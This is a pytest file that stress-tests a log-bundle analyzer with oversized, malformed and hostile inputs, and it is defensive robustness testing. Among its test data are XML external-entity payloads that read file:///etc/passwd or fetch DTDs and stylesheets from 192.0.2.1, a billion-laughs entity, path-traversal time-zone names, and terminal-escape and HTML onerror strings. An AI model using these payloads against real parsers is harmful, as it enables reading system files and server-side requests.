"""Content that is too long, too deep, too many or impossible: bounded, and said in the coverage."""

from __future__ import annotations

import io
import json
import random
from dataclasses import replace
from pathlib import Path

import pytest

from analyzer.lines import index
from tests.bundle.archives import tar_bytes, write_folder
from tests.hostile.check import BOUNDS, Outcome, survive
from tests.hostile.files import HANDLER, bundle, logs, states

STAMP = b"2030-01-01T00:00:00.000000Z "
LINE = STAMP + b"INFO Daemon Daemon fine\n"
DEEP = 100_000


def log(data: bytes, path: str = "var/log/waagent.log") -> Outcome:
    return survive(io.BytesIO(tar_bytes({path: data, "var/log/syslog": b"Jan  1 00:00:00 a b: c\n"})))


@pytest.mark.parametrize(
    "data",
    [
        LINE + STAMP + b"ERROR Daemon " + b"x" * (17 << 20) + b"\n" + LINE,
        LINE + STAMP + b"ERROR Daemon error " + b"\xff\xfe\x80" * (6 << 20),
        ("\ufeff" + "2030-01-01T00:00:00.0Z ERROR Daemon x").encode("utf-16-le") + "y".encode("utf-16-le") * (17 << 20),
    ],
    ids=["below a stamp", "no text", "utf-16"],
)
def test_a_line_of_megabytes_is_cut(data: bytes) -> None:
    assert "records were cut because they are longer than 16 MiB" in log(data).words


@pytest.mark.parametrize(
    ("data", "most"),
    [
        (b"\n" * (3 << 20), 1_000_100),
        (LINE + b"\n" * (3 << 20), 100),
        (b"a\n\n" * (1 << 20), 1_000_100),
        (LINE + b"\r\n" * (1 << 20), 100),
    ],
    ids=["line ends", "below a stamp", "short lines", "of Windows"],
)
def test_lines_without_end_make_few_records(data: bytes, most: int) -> None:
    outcome = log(data)
    assert outcome.analysis is not None
    assert sum(info.events for info in outcome.analysis.reading.store.members) < most
    assert "or 100,000 lines" in outcome.words


def test_records_beyond_the_limit_are_not_read() -> None:
    files = {"var/log/waagent.log": LINE * 20_000, "var/log/syslog": b"Jan  1 00:00:00 a b: c\n"}
    limits = replace(BOUNDS, max_records=5_000, block_bytes=64 << 10)
    outcome = survive(io.BytesIO(tar_bytes(files)), limits)
    assert outcome.analysis is not None
    assert 5_000 <= outcome.analysis.reading.records < 10_000
    assert "var/log/waagent.log: more than 5000 records in the bundle: the rest was not read" in outcome.words
    assert "var/log/syslog: more than 5000 records" in outcome.words


@pytest.mark.parametrize("size", [1, 7, 4096, 100_000])
@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-8-sig"])
def test_broken_characters(size: int, encoding: str) -> None:
    """Lone halves of UTF-16, odd lengths, bytes that are no UTF-8, zero bytes, in any place."""
    chance = random.Random(size)
    wide = encoding.startswith("utf-16")
    mark = "\ufeff" if wide else ""
    data = bytearray((mark + LINE.decode() * (size // 20 + 2)).encode(encoding))
    for _ in range(size // 10 + 1):
        at = chance.randrange(2, len(data))
        data[at : at + 2] = chance.choice([b"\x00\xd8", b"\xd8\x00", b"\xff\xff", b"\0\0", b"\xed\xa0", b"\xc0"])
    log(bytes(data))
    log(bytes(data[:-1]))


@pytest.mark.parametrize(
    "data",
    [
        b"[" * DEEP + b"]" * DEEP,
        b'{"a":' * DEEP + b"1" + b"}" * DEEP,
        b'[{"status":{"status":' * DEEP,
        b"[" * 900 + b"]" * 900,
        b"[" + b"[]," * 300_000 + b"[]]",
        b"[" + b"9" * (1 << 20) + b"]",
        b'[{"status":{"status":"error","code":' + b"9" * 5_000 + b"}}]",
        b'[{"status":{"status":"error","code":1e999999}}]',
        b'[{"status":{"status":"error","code":NaN},"timestampUTC":-Infinity}]',
        b'[{"status":{"status":"' + b"\\ud800" * 100_000 + b'"}}]',
        b'[{"status":{"status":"' + b"\\u0000\\u001b[2J" * 100_000 + b'"}}]',
        b'{"a":1,' * 200_000,
        json.dumps([{"status": {"status": "error", "substatus": [{"status": "x" * 100}] * 20_000}}]).encode(),
        json.dumps([{"status": {"status": "error", "formattedMessage": {"message": "x" * (8 << 20)}}}]).encode(),
        b'"' + b"\\" * (1 << 20),
        bytes(1 << 20),
        b"\xff\xfe" + b"[" * (1 << 20),
    ],
    ids=range(17),
)
def test_json_that_is_too_much(data: bytes) -> None:
    kinds = states("x")
    documents = {kinds[kind][0]: data for kind in ("handler-status", "extension-status", "vm-settings", "telemetry")}
    outcome = survive(io.BytesIO(tar_bytes(documents)))
    assert outcome.members


@pytest.mark.parametrize(
    "data",
    [
        '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><{root}>&b;</{root}>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><{root}>&x;</{root}>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><{root}/>',
        '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd"><{root}/>',
        '<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></{root}>',
        '<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?><{root}/>',
        "<{root}>" + "<a>" * DEEP + "</{root}>",
        "<{root}>" + "<a/>" * 300_000 + "</{root}>",
        "<{root}>" + "<a/>" * 600_000 + "</{root}>",
        "<{root} " + " ".join(f'a{number}="x"' for number in range(100_000)) + "/>",
        "<{root}>" + "x" * (12 << 20) + "</{root}>",
        "<{root}><![CDATA[" + "]]&gt;" * 100_000 + "</{root}>",
        "<{root}>" + "&#x1b;&#0;&#xFFFFFFFF;&#xD800;" * 1_000 + "</{root}>",
        "<{root}>" + "<!--" * DEEP,
        "<" * (1 << 20),
        "<{root}>" + '<a xmlns="u:' + "y" * (1 << 20) + '"/>' + "</{root}>",
        '<?xml version="1.0" encoding="utf-7"?><{root}>+ADw-script+AD4-</{root}>',
        '<?xml version="1.0" encoding="UTF-32"?><{root}/>',
    ],
    ids=range(18),
)
def test_xml_that_is_too_much(data: str) -> None:
    documents: dict[str, bytes] = {}
    for kind in ("goal-state", "extensions-config", "machine-config", "setup-events"):
        path, content = states("x")[kind]
        root = content[1:].split(b">")[0].split()[0].decode()
        documents[path] = data.replace("{root}", root).encode()
    documents["Security.xml"] = data.replace("{root}", "Events").encode()
    outcome = survive(io.BytesIO(tar_bytes(documents)))
    assert "root:" not in outcome.outputs.get("html", "")  # of /etc/passwd


YEARS = ("0000", "0001", "1600", "1969", "2038", "2262", "2300", "9999")


@pytest.mark.parametrize("year", YEARS)
def test_stamps_of_any_year(tmp_path: Path, year: str) -> None:
    files = bundle(states("said", f"{year}-12-31T23:59:59.9999999Z"), logs("failed", f"{year}-12-31"))
    survive(write_folder(tmp_path / "bundle", files))


@pytest.mark.parametrize(
    "stamp",
    [
        "2016-12-31T23:59:60Z", "2030-02-30T00:00:00Z", "2030-13-01T00:00:00Z", "2030-00-00T00:00:00Z",
        "10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "2030-01-01T25:61:61Z", "2030-01-01T00:00:00+99:99",
        "2030-01-01T00:00:00-24:00", "2030-01-01T00:00:00.99999999999999999999Z", "/Date(-99999999999999999)/",
        "/Date(999999999999999999999)/", "٢٠٣٠-٠١-٠١T٠٠:٠٠:٠٠Z", "0", "-1", "1e300", "NaN", "9" * 5_000, "",
    ],
    ids=range(19),
)  # fmt: skip
def test_stamps_that_cannot_be(tmp_path: Path, stamp: str) -> None:
    folder = write_folder(tmp_path / "bundle", bundle(states("said", stamp)))
    lines = "".join(f"{stamp} {level} ExtHandler failed\n" for level in ("INFO", "ERROR"))
    (folder / "var/log").mkdir(exist_ok=True)
    (folder / "var/log/waagent.log").write_text(LINE.decode() + lines, encoding="utf-8")
    survive(folder)


@pytest.mark.parametrize(
    "number",
    [
        -1,
        0,
        1 << 31,
        1 << 63,
        10**300,
        -(10**18),
        621_355_968_000_000_000,
        3_155_378_975_999_999_999,
        1e308,
        True,
        None,
        [],
        "x",
    ],
)
def test_numbers_that_cannot_be(tmp_path: Path, number: object) -> None:
    survive(write_folder(tmp_path / "bundle", bundle(states("said", number=number))))


def test_what_all_state_files_tell_is_bounded() -> None:
    status = json.dumps([{"status": {"status": "error", "formattedMessage": {"message": "x" * 30_000}}}]).encode()
    files = {f"{HANDLER}/status/{number}.status": status for number in range(30)}
    outcome = survive(io.BytesIO(tar_bytes(files)), replace(BOUNDS, max_state_text=300_000))
    assert outcome.analysis is not None
    assert outcome.analysis.reading.told <= 300_000
    assert "the state files tell more than 300000 characters: this one was left out" in outcome.words


def test_a_state_file_has_a_size() -> None:
    files = {f"{HANDLER}/status/1.status": b"[" + b" " * 200_000 + b"]"}
    outcome = survive(io.BytesIO(tar_bytes(files)), replace(BOUNDS, max_state_bytes=100_000))
    assert "larger than 100000 bytes, not read" in outcome.words


@pytest.mark.parametrize(
    "unit", ["Asia/../../etc/passwd", "/etc/passwd", "..", "A" * 5_000, "Etc/UTC\0", "\x1b[2J", "GMT+99", "x/y/z"]
)
def test_names_of_time_zones(unit: str) -> None:
    clock = (
        f"      Local time: Tue 2030-01-01 00:00:00 UTC\n  Universal time: x\n       Time zone: {unit} (UTC, +0000)\n"
    )
    files = {
        "etc/timezone": unit.encode(),
        "sos_commands/systemd/timedatectl": clock.encode(),
        "var/log/waagent.log": LINE,
    }
    outcome = survive(io.BytesIO(tar_bytes(files)))
    assert "root:x" not in outcome.outputs["json"]


def test_a_parser_that_fails_costs_its_member_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from analyzer.parsers import handler_status

    def broken(*_: object) -> None:
        raise ArithmeticError("\x1b[2J<img src=x onerror=run(1)>")

    monkeypatch.setattr(handler_status, "parse", broken)
    outcome = survive(write_folder(tmp_path / "bundle", bundle(states("said"), logs("failed"))))
    assert "reading it failed: ArithmeticError" in outcome.words
    assert outcome.analysis is not None
    assert len([info for info in outcome.analysis.reading.store.members if info.events]) > 20


def test_sources_have_a_number(monkeypatch: pytest.MonkeyPatch) -> None:
    """At a smaller bound; what comes from more of them is read, under one name."""
    monkeypatch.setattr(index, "MOST_SOURCES", 5)
    line = b"2030/01/01 00:00:00 ERROR:[Evil.Corp-1.0] said\n"
    files = {f"var/log/azure/Evil.Corp.H{number}/x.log": line for number in range(20)}
    outcome = survive(io.BytesIO(tar_bytes(files)))
    told = {cover["source"]: cover["events"] for cover in outcome.document["coverage"]["sources"]}
    assert sum(told.values()) == 20
    assert told["other"] >= 14
    assert "its records count as source 'other'" in outcome.words
